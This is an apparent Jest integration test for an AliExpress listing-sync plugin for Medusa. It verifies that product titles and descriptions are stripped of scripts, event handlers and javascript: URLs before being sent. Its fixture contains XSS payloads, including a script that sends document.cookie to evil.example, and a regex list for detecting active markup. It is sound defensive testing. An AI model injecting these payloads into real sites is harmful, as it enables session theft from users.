process.env.ALIEXPRESS_ORDER_IMPORT_CRON = "0 0 * * *"
process.env.ALIEXPRESS_SHIPMENT_PUSH_CRON = "0 0 * * *"
process.env.ALIEXPRESS_RECONCILE_CRON = "0 0 * * *"
process.env.ALIEXPRESS_SYNC_DEBOUNCE_MS = "100"
process.env.ALIEXPRESS_SYNC_MIN_GAP_MS = "100"

import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
import { startSandbox, type SandboxHandle } from "../../src/sandbox"
import { listingSyncRunner } from "../../src/runners/listing-sync"
import { createSeedProducts, sampleProductSeed } from "../../scripts/lib/store-setup"
import { createAdminHeaders } from "../helpers/admin-auth"
import { SANDBOX_APP_KEY, SANDBOX_APP_SECRET, sandboxControl } from "../helpers/connect-sandbox"
import { startImageServer } from "../helpers/image-server"
import { allListings, prepareSyncStore, sandboxState, sleep, until } from "./reliability-support"

jest.setTimeout(5 * 60 * 1000)

const SCRIPTS = [/<script/i, /\bon[a-z]+\s*=/i, /javascript:/i, /<iframe/i, /<img[^>]*src=x/i]

/** Every string in `value` (with its path) that carries active markup. */
function scripted(value: unknown, path = "$"): string[] {
  if (typeof value === "string") return SCRIPTS.some((p) => p.test(value)) ? [`${path}: ${value.slice(0, 200)}`] : []
  if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => scripted(v, `${path}.${k}`))
  return []
}

let sandbox: SandboxHandle
let images: Awaited<ReturnType<typeof startImageServer>>

beforeAll(async () => {
  images = await startImageServer()
  sandbox = await startSandbox({ port: 0, appKey: SANDBOX_APP_KEY, appSecret: SANDBOX_APP_SECRET, auditDelayMs: 0, rateLimitPerSecond: 1000 })
})

afterAll(async () => {
  await sandbox?.stop()
  await images?.stop()
})

medusaIntegrationTestRunner({
  inApp: true,
  env: {},
  testSuite: ({ api, getContainer }) => {
    afterEach(async () => {
      await sleep(300)
      await Promise.race([listingSyncRunner.whenIdle(), sleep(30000)])
    })

    it("keeps script tags, event handlers and javascript: URLs out of what AliExpress receives and of the preview", async () => {
      await sandboxControl(sandbox.url, "/reset", { seed: "empty" })
      const admin = await createAdminHeaders(getContainer(), api)
      const { store, account } = await prepareSyncStore(getContainer(), api, admin, sandbox.url)
      const [product] = await createSeedProducts(
        getContainer(),
        [
          sampleProductSeed(1, {
            title: `Tee <img src=x onerror=window.__xss=1> <script>alert(1)</script>`,
            description: [
              `<p onclick="steal()">Soft cotton <a href="javascript:alert(1)">tee</a></p>`,
              `<script>document.location='https://evil.example/'+document.cookie</script>`,
              `<iframe src="https://evil.example"></iframe><svg onload=alert(2)></svg>`,
              `<p style="background:url(javascript:alert(3))">Machine washable</p>`,
            ].join(""),
            images: [`${images.url}/tee-1-front.jpg`],
          }),
        ],
        { salesChannelIds: [account.sales_channel_id], shippingProfileId: store.shippingProfileId, stockLocationId: store.stockLocationId }
      )

      const preview = (await api.post("/admin/aliexpress/preview", { product_id: product.id }, admin)).data.preview
      const previewed = JSON.stringify(preview.payload)
      expect(scripted(preview.payload)).toEqual([])
      expect(previewed).toContain("Soft cotton")
      expect(previewed).toContain("Machine washable")

      let seen: any
      const listing = await until(
        "the product posted",
        async () => {
          seen = (await allListings(api, admin))[0]
          return seen?.ae_product_id && seen
        },
        60000,
        200
      ).catch((e) => {
        throw new Error(`${e.message}; listing: ${JSON.stringify(seen && { status: seen.status, problems: seen.problems, last_error: seen.last_error })}`)
      })
      expect(scripted(listing.last_payload)).toEqual([])
      const onAliExpress = (await sandboxState(sandbox.url)).products
      expect(onAliExpress).toHaveLength(1)
      expect(scripted(onAliExpress[0])).toEqual([])
      expect(onAliExpress[0].subject).toContain("Tee")
    })
  },
})
